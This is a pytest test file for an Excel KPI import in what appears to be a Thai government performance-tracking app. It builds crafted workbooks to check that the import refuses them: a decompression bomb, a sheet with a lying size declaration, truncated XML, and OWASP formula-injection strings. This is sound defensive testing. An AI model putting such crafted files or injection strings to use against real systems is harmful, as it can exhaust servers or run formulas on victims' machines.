def test_a_missing_or_renamed_column_is_named(login, km_officer, kpi):
    header = HEADER[:5] + ["น้ำหนัก"] + HEADER[6:8]
    response = _import(_english(login(km_officer)), _sheet([2, 1, "ตัวชี้วัดใหม่"], header=header))
    assert _errors(response) == [
        "Row 1, column F (Weight (%)): expected the header “Weight (%)”, found “น้ำหนัก”.",
        "Row 1, column I (Remark): the header “Remark” is missing.",
    ]


def test_the_header_may_be_english_and_spaced_differently(login, km_officer, kpi):
    english = [
        "Strategic issue no.", "KPI no.", "KPI name under the  performance agreement", "unit", "TARGET",
        "Weight (%)", "Responsible\nagencies", "Involved agencies", " Remark ",
    ]  # fmt: skip
    spaced = [label.replace(" ", "\n") for label in HEADER]
    for header, name in ((english, "ตัวชี้วัดใหม่"), (spaced, "ตัวชี้วัดใหม่อีกครั้ง")):
        response = _import(login(km_officer), _sheet([2, 1, name], header=header))
        assert response.redirect_chain == [(reverse("worksheet1"), 302)]
        assert Kpi.objects.get(issue__number=2, number=1).name == name


# --- Size -------------------------------------------------------------------------------------

TOO_MANY_ROWS = (
    "An import takes at most {max} KPI rows (rows 2 to {last}); this sheet goes on below row {last}. "
    "Split the file, or delete the empty rows below the KPIs."
)


def _rewrite_sheet(data: bytes, change) -> bytes:
    """The workbook with its first sheet's XML passed through ``change``, as a script could write it."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for part in source.infolist():
            content = source.read(part)
            if part.filename == "xl/worksheets/sheet1.xml":
                content = change(content.decode()).encode()
            archive.writestr(part.filename, content)
    return buffer.getvalue()


def _no_row_is_read(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the rows were read")

    monkeypatch.setattr("openpyxl.worksheet._reader.WorkSheetParser.parse", refuse)


def test_a_sheet_that_declares_more_rows_than_the_limit_is_refused_before_reading(
    login, km_officer, kpi, monkeypatch
):
    data = _rewrite_sheet(
        _sheet([2, 1, "ตัวชี้วัดใหม่"]),
        lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:I1048576"', xml),
    )
    _no_row_is_read(monkeypatch)
    response = _import(_english(login(km_officer)), data)
    assert response.status_code == 422
    assert _errors(response) == [TOO_MANY_ROWS.format(max=1000, last=1001)]


def test_a_small_file_that_unpacks_to_a_huge_sheet_is_refused_from_its_size(
    login, km_officer, kpi, monkeypatch
):
    """60 KB that unpack to 30 MB of empty cells, with a dimension that lies: nothing is parsed."""
    data = _rewrite_sheet(
        _sheet(),
        lambda xml: xml.replace(
            "</sheetData>", '<row r="2">' + '<c r="B2"/>' * 3_000_000 + "</row></sheetData>"
        ),
    )
    assert len(data) < 100_000
    monkeypatch.setattr(
        "core.documents.excel.load_workbook", lambda *a, **k: pytest.fail("the workbook was opened")
    )
    started = time.perf_counter()
    response = _import(_english(login(km_officer)), data)
    assert time.perf_counter() - started < 1
    assert _errors(response) == [
        "The workbook is far larger than 1000 KPI rows need once unpacked. "
        "Copy the KPI rows alone into the template and import that."
    ]


def _rows_of_issue_2(count: int) -> list[list]:
    return [[2, number, f"ตัวชี้วัดที่ {number}"] for number in range(1, count + 1)]


def test_a_file_may_hold_up_to_the_row_limit(login, km_officer, kpi, monkeypatch):
    monkeypatch.setattr("worksheets.excel.MAX_KPI_ROWS", 3)
    response = _import(_english(login(km_officer)), _sheet(*_rows_of_issue_2(3)))
    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
    assert Kpi.objects.filter(issue__number=2).count() == 3


def test_a_file_over_the_row_limit_is_refused(login, km_officer, kpi, monkeypatch):
    monkeypatch.setattr("worksheets.excel.MAX_KPI_ROWS", 3)
    response = _import(_english(login(km_officer)), _sheet(*_rows_of_issue_2(4)))
    assert _errors(response) == [TOO_MANY_ROWS.format(max=3, last=4)]
    assert not Kpi.objects.filter(issue__number=2).exists()


def test_rows_below_a_dimension_that_lies_are_not_missed(login, km_officer, kpi, monkeypatch):
    monkeypatch.setattr("worksheets.excel.MAX_KPI_ROWS", 3)
    data = _rewrite_sheet(
        _sheet(*_rows_of_issue_2(4)),
        lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:I2"', xml),
    )
    response = _import(_english(login(km_officer)), data)
    assert _errors(response) == [TOO_MANY_ROWS.format(max=3, last=4)]
    assert not Kpi.objects.filter(issue__number=2).exists()


def test_checking_rows_takes_the_same_queries_for_any_number_of_rows(kpi, fiscal_year, agency, other_agency):
    def queries(rows: int) -> int:
        data = _sheet(
            *([2, n, f"ตัวชี้วัด {n}", "ร้อยละ", "5", 10, agency.name, other_agency.name] for n in range(1, rows))
        )
        with CaptureQueriesContext(connection) as captured:
            assert len(excel.parse(fiscal_year, data)) == rows - 1
        return len(captured.captured_queries)

    assert queries(3) == queries(40)


# --- The import keeps the screen's rules ------------------------------------------------------


def test_a_finalised_issue_is_not_changed_by_an_import(login, km_officer, kpi):
    kpi.issue.finalised_at = timezone.now()
    kpi.issue.save()
    before = _state()
    response = _import(
        _english(login(km_officer)), _sheet([1, 1, "ชื่อที่แก้ไข"], [1, 2, "ตัวชี้วัดเพิ่ม"], GOOD_ROWS[1])
    )
    assert response.status_code == 422
    finalised = (
        "column A (Strategic issue no.): strategic issue 1 is finalised and this row would change it; "
        "reopen the issue first, or leave the row as it is."
    )
    assert _errors(response) == [f"Row 2, {finalised}", f"Row 3, {finalised}"]
    assert _state() == before


def test_an_unchanged_row_of_a_finalised_issue_passes(login, km_officer, kpi):
    kpi.issue.finalised_at = timezone.now()
    kpi.issue.save()
    client = login(km_officer)
    exported = _workbook_bytes(_open(client.get(reverse("kpi-export"))))
    workbook = load_workbook(io.BytesIO(exported))
    workbook.worksheets[0].append(GOOD_ROWS[1])
    history = kpi.history.count()
    response = _import(client, _workbook_bytes(workbook))
    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
    assert Kpi.objects.get(issue__number=2, number=1).name == "ตัวชี้วัดใหม่ที่ถูกต้อง"
    assert kpi.history.count() == history  # nothing written for the unchanged KPI


def test_an_inactive_agency_is_refused_as_on_the_screen_unless_the_kpi_names_it(
    login, km_officer, kpi, agency, other_agency
):
    other_agency.is_active = False
    other_agency.save()
    client = _english(login(km_officer))
    response = _import(client, _sheet([2, 1, "ตัวชี้วัดใหม่", None, None, None, None, other_agency.name]))
    assert _errors(response) == [
        f"Row 2, column H (Involved agencies): Select a valid choice. {other_agency.name} "
        "is not one of the available choices."
    ]
    # KPI 1.1 names it already: kept, as the screen keeps it.
    response = _import(client, _sheet([1, 1, "ชื่อใหม่", None, None, None, agency.name, other_agency.name]))
    assert response.redirect_chain == [(reverse("worksheet1"), 302)]
    assert list(Kpi.objects.get(pk=kpi.pk).involved_agencies.all()) == [other_agency]


def test_an_import_leaves_one_history_entry_per_kpi_it_changes(
    login, km_officer, kpi, agency, other_agency, province_office
):
    history = kpi.history.count()
    _import(
        login(km_officer),
        _sheet(
            [1, 1, "ร้อยละของพื้นที่เกษตรปลอดภัย", "ร้อยละ", "80", 10, agency.name, province_office.name, "เดิม"],
            [2, 1, "ตัวชี้วัดใหม่", None, None, None, other_agency.name],
        ),
    )
    assert kpi.history.count() == history + 1
    changed = kpi.history.latest()
    assert (changed.history_type, changed.history_user) == ("~", km_officer)
    assert [r.agency for r in changed.historicalkpi_involved_agencies_set.all()] == [province_office]
    assert [r.agency for r in changed.historicalkpi_responsible_agencies_set.all()] == [agency]
    added = Kpi.objects.get(issue__number=2, number=1).history.get()
    assert (added.history_type, added.history_user, added.name) == ("+", km_officer, "ตัวชี้วัดใหม่")
    assert [r.agency for r in added.historicalkpi_responsible_agencies_set.all()] == [other_agency]


def test_the_writer_keeps_every_text_a_text():
    """core.documents.excel, which every workbook goes through: OWASP's CSV-injection starts, an
    Excel error code and control characters Excel cannot store."""
    book = documents.workbook()
    sheet = documents.sheet(book, "ทดสอบ", [("ข้อความ", 20)])
    texts = ["=1+1", "+1", "-1", "@A1", "\tรายการ", "\rรายการ", "#N/A", "ร้อยละ 80", "ก\x0bข"]
    for text in texts:
        documents.append(sheet, [text, 5, Decimal("12.5"), None])
    cells = _stored_cells(documents.to_bytes(book), 1)
    assert not any(formula for _t, _q, formula, _text in cells.values())
    stored = [cells[f"A{row}"] for row in range(2, len(texts) + 2)]
    assert [(kind, quoted) for kind, quoted, _f, _text in stored] == [("inlineStr", True)] * 6 + [
        ("inlineStr", False)
    ] * 3
    assert [text for *_rest, text in stored][6:] == ["#N/A", "ร้อยละ 80", "กข"]
    assert cells["B2"] == ("n", False, False, "") and cells["C2"][0] == "n"


def test_a_sheet_that_breaks_off_is_no_workbook(login, km_officer, kpi):
    data = _rewrite_sheet(_sheet(*_rows_of_issue_2(3)), lambda xml: xml[: xml.index('<row r="3"') + 20])
    before = _state()
    response = _import(login(km_officer), data)
    assert response.status_code == 422
    assert "ไฟล์นี้ไม่ใช่ไฟล์ Excel (.xlsx)" in response.content.decode()
    assert _state() == before
